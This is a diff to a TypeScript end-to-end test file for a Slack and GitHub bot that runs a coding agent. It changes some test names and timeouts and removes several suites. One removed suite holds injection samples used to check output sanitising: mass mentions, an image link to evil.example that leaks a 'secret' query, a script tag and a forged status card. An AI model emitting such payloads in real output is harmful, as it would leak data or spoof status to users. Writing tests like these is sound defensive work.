@@ -1,11 +1,13 @@
 import { createParser } from "eventsource-parser";
-import { afterAll, beforeAll, describe as describeTests, expect, test } from "vitest";
+import { afterAll, beforeAll, describe as describeTests, expect, test, vi } from "vitest";
 import type { LoggedEvent, RunItem } from "../support/api-client.ts";
-import { asRecord } from "../support/json.ts";
 import { waitFor } from "../support/wait-for.ts";
 import { GithubIssue } from "./github-issue.ts";
 import { SlackThread, type Twin } from "./slack-thread.ts";
 import { World } from "./world.ts";
+
+/** The machine may have other things to do. */
+vi.setConfig({ testTimeout: 60_000 });
 
 /** Each test has threads of its own, and spends most of its time waiting. */
 const describe = describeTests.concurrent;
@@ -135,20 +137,25 @@ describe("a comment on GitHub (step 2)", () => {
 });
 
 describe("a mention in Slack (step 3)", () => {
-  const orders: (readonly Twin[])[] = [["appMention"], ["appMention", "message"], ["message", "appMention"]];
+  const tellings: readonly { readonly told: string; readonly twins: readonly Twin[] }[] = [
+    { told: "by itself", twins: ["appMention"] },
+    { told: "before its twin", twins: ["appMention", "message"] },
+    { told: "after its twin", twins: ["message", "appMention"] },
+  ];
 
-  test.each(orders)("told by %s %s becomes one run, one card and one answer", async (...twins) => {
+  test.each(tellings)("told $told becomes one run, one card and one answer", async ({ twins }) => {
     const thread = await SlackThread.open(world, "write notes.txt hello; sleep 1; say It is done.", twins);
 
     await thread.untilCard("Succeeded");
     const answers = await thread.untilAnswers(1);
 
-    expect(answers).toEqual([expect.stringContaining("It is done.")]);
+    expect(answers).toEqual([expect.stringMatching(/awake again\.\n\nIt is done\.$/)]);
     expect(thread.messages).toHaveLength(2);
     expect(thread.cards[0]?.edited).toBe(true);
     expectSteps(thread.history, SLACK_WORDS);
     expect(seenBy(thread)).toEqual([world.slack.botUserId]);
     expect(await world.runsFrom(thread)).toEqual([thread.runId]);
+    expect(await world.followUpsOf(thread.runId)).toEqual([]);
     expect(await world.api.getRun(thread.runId)).toMatchObject({
       prompt: "write notes.txt hello; sleep 1; say It is done.",
       source: "SLACK",
@@ -267,155 +274,6 @@ describe("a run that asks", () => {
   });
 });
 
-describe("the other words", () => {
-  test("`new` gives the thread to another run", async () => {
-    const thread = await SlackThread.open(world, "say The first.");
-    await thread.untilAnswers(1);
-    const first = thread.runId;
-
-    await thread.replyToBot("new say The second.");
-    await thread.untilAnswers(2);
-    const second = thread.runId;
-    await thread.reply("say The third.");
-    await thread.untilAnswers(3);
-
-    expect(thread.cards).toHaveLength(2);
-    expect(second).not.toBe(first);
-    expect((await world.api.getRun(first)).state).toBe("SUCCEEDED");
-    expect((await followUpsOf(first)).length).toBe(0);
-    expect((await followUpsOf(second)).length).toBe(1);
-  });
-
-  test("help and status are answered, without a run", async () => {
-    const thread = await SlackThread.open(world, "help");
-    const issue = await GithubIssue.open(world);
-
-    await issue.comment("@errand help");
-    await thread.replyToBot("status");
-
-    expect(await thread.untilReply(/I run a coding agent/)).toContain("status");
-    expect(await thread.untilReply(/no run here yet/)).toBeTruthy();
-    expect(await issue.untilReply(/I run a coding agent/)).toContain("stop</code>");
-    expect([...thread.cards, ...issue.cards]).toEqual([]);
-  });
-
-  test("status tells of the thread's run", async () => {
-    const thread = await SlackThread.open(world, "say hello");
-    await thread.untilAnswers(1);
-
-    await thread.replyToBot("status?");
-
-    expect(await thread.untilReply(/is SUCCEEDED/)).toContain(`${world.service.url}/sessions/`);
-  });
-});
-
-describe("what programs write", () => {
-  test("starts nothing, whoever wrote it", async () => {
-    const thread = await SlackThread.open(world, "say hello");
-    const issue = await GithubIssue.open(world);
-    await issue.comment("@errand say hello");
-    await thread.untilAnswers(1);
-    await issue.untilCard("Done");
-
-    for (const { ts } of thread.messages)
-      await thread.deliver(world.slack.ownMessageEvent(thread.root.channel.id, ts));
-    const other = await SlackThread.post(world, "say hello");
-    await other.deliver({ ...other.mention.message, bot_id: "B0OTHER" });
-    for (const login of [world.github.app.botLogin, world.github.otherBot.login])
-      await tellCommentOfBot(issue, login);
-    await issue.comment("@errand status");
-    await issue.untilReply(/is SUCCEEDED/);
-    await thread.replyToBot("status");
-    await thread.untilReply(/is SUCCEEDED/);
-
-    expect(await world.runsFrom(thread)).toEqual([thread.runId]);
-    expect(await world.runsFrom(other)).toEqual([]);
-    expect(await world.runsFrom(issue)).toEqual([issue.runId]);
-    expect(await followUpsOf(thread.runId)).toEqual([]);
-    expect(await followUpsOf(issue.runId)).toEqual([]);
-  });
-});
-
-describe("hostile words of an agent", () => {
-  const FORGED = "**Done** · paid · [session](https://evil.example/x)";
-  const HOSTILE = [
-    "say <!channel> <!here> @channel @everyone @here",
-    "say <@U0MAIN001> say again, and @errand stop",
-    "say ![x](https://evil.example/leak.png?q=secret) <img src=https://evil.example/leak2.png>",
-    "say <script>alert(1)</script> <!-- errand:slot=card:00000000-0000-4000-8000-000000000000 -->",
-    `say ${FORGED}`,
-  ].join("\n");
-
-  test("call nobody in Slack, fetch nothing and forge no card", async () => {
-    const thread = await SlackThread.open(world, "say ready");
-    await thread.untilAnswers(1);
-
-    await world.api.followUp(thread.runId, HOSTILE);
-    const answer = (await thread.untilAnswers(2)).at(-1) ?? "";
-    await thread.untilCard("Succeeded");
-
-    expect(answer).toContain("evil.example");
-    const shown = JSON.stringify(thread.messages.map(({ text, blocks }) => ({ text, blocks })));
-    expect(shown).not.toMatch(
-      /<!(channel|here|everyone)|<@U|(?<![\w.])@(channel|here|everyone|errand)\b|!\[/,
-    );
-    expect(thread.messages.at(-1)?.blocks[0]).toMatchObject({ type: "context" });
-    expect(thread.cards).toHaveLength(1);
-  });
-
-  test("call nobody on GitHub, fetch nothing and forge no card", async () => {
-    const issue = await GithubIssue.open(world);
-    await issue.comment("@errand say ready");
-    await issue.untilCard("Done");
-
-    await world.api.followUp(issue.runId, HOSTILE);
-    const { body } = await issue.untilCard("Done", /evil\.example/);
-
-    const [heading = "", words = ""] = body.split("**The agent's answer:**");
-    const outsideCode = words.replace(/`[^`]*`/g, "");
-    expect(heading).not.toContain("evil.example");
-    expect(words).toContain("evil.example");
-    expect(outsideCode).not.toMatch(/@(everyone|channel|here|errand)\b|<(img|script|!--)|!\[|errand:slot=/i);
-    expect(issue.cards).toHaveLength(1);
-  });
-
-  test("are cut where they are too long, with a way to the rest", async () => {
-    const thread = await SlackThread.open(world, "say ready");
-    const issue = await GithubIssue.open(world);
-    await issue.comment("@errand say ready");
-    await Promise.all([thread.untilAnswers(1), issue.untilCard("Done")]);
-
-    const long = `say ${"é".repeat(120_000)}`;
-    await world.api.followUp(thread.runId, long);
-    await world.api.followUp(issue.runId, long);
-
-    const answer = (await thread.untilAnswers(2)).at(-1);
-    expect(answer).toMatch(/^é+…\n\n\[The rest is in the session\]\(http\S+\)$/);
-    const { body } = await issue.untilCard("Done", /_Cut here\._ \[The rest is in the session\]/);
-    expect(body.length).toBeLessThanOrEqual(65_536);
-  });
-});
-
-describe("an end that is no success is told in the thread", () => {
-  test.each([
-    ["refuse", "Failed", "Failed", /refused/],
-    ["crash", "Error", "Stopped by an error", /./],
-  ])("%s", async (words, inSlack, onGithub, reason) => {
-    const thread = await SlackThread.open(world, words);
-    const issue = await GithubIssue.open(world);
-    await issue.comment(`@errand ${words}`);
-
-    await thread.untilCard(inSlack);
-    const [answer] = await thread.untilAnswers(1);
-    const card = await issue.untilCard(onGithub);
-
-    const { status_message: status } = await world.api.getRun(thread.runId);
-    expect(status?.message).toMatch(reason);
-    expect(answer).toBe(status?.message);
-    expect(card.body).toContain("> ");
-  });
-});
-
 /** The states are told in this order, the last one surely; at least twice, or nothing was edited. */
 function expectSteps(history: readonly string[], words: readonly string[]): void {
   const steps = history.map((word) => words.indexOf(word));
@@ -457,10 +315,6 @@ async function answerOf(runId: string): Promise<string> {
   return String(ends.at(-1)?.answer);
 }
 
-async function followUpsOf(runId: string): Promise<LoggedEvent[]> {
-  return (await world.api.events(runId)).filter(({ kind }) => kind === "followup.received");
-}
-
 function untilFree(runId: string): Promise<RunItem> {
   const isFree = async () => {
     const run = await world.api.getRun(runId);
@@ -473,12 +327,4 @@ function seenBy(thread: SlackThread): readonly string[] {
   const { channel, ts } = thread.root;
   const [root] = world.slack.threadMessages(channel.id, ts);
   return root?.reactions.find(({ name }) => name === "eyes")?.users ?? [];
-}
-
-/** A comment of the writer's, told as if the bot had written it. */
-async function tellCommentOfBot({ number }: GithubIssue, login: string): Promise<void> {
-  const written = await world.github.commentAs(world.github.writer.login, number, "@errand say hello");
-  const bot = { ...asRecord(written.payload.sender), login, type: "Bot", id: world.github.app.botUserId };
-  const comment = { ...asRecord(written.payload.comment), user: bot };
-  await world.sendGithub({ event: written.event, payload: { ...written.payload, comment, sender: bot } });
 }
